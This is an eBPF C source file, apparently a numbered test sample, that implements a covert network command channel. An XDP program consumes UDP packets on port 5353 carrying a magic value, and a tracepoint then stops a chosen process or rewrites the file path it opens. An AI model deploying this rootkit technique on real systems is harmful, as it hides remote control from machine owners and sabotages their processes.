// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T15: a command channel: XDP eats matching packets and their payload steers what a tracing program of the object does.
#include "net.h"

SAMPLE_SWITCH;
LICENSE;

struct order {
	u32 kind, pid;
};
ARRAY(orders, struct order, 1);
PROG_ARRAY(stages, 4);

SEC("xdp")
int c2_entry(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct iphdr *ip = ipv4(data, end);
	struct udphdr *udp;

	if (!ip)
		return XDP_PASS;
	udp = udp4(ip, end);
	if (!udp || udp->dest != bpf_htons(5353))
		return XDP_PASS;
	bpf_tail_call(ctx, &stages, 1);
	return XDP_PASS;
}

SEC("xdp")
int c2_parse(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct order *o, *in = data + UDP_PAYLOAD_OFF + 4;
	u32 *magic = data + UDP_PAYLOAD_OFF, zero = 0;

	if ((void *)(in + 1) > end || *magic != 0x62776331)
		return XDP_PASS;
	o = bpf_map_lookup_elem(&orders, &zero);
	if (!o)
		return XDP_PASS;
	o->kind = in->kind;
	o->pid = in->pid;
	return sample_armed ? XDP_DROP : XDP_PASS;
}

SEC("tp/syscalls/sys_enter_openat")
int c2_obey(struct tp_enter *ctx)
{
	u32 zero = 0;
	struct order *o = bpf_map_lookup_elem(&orders, &zero);

	if (!o || o->pid != tgid())
		return 0;
	if (o->kind == 1 && sample_armed)
		bpf_send_signal(19);
	if (o->kind == 2 && sample_armed)
		bpf_probe_write_user((void *)ctx->args[1], "/", 2);
	return 0;
}
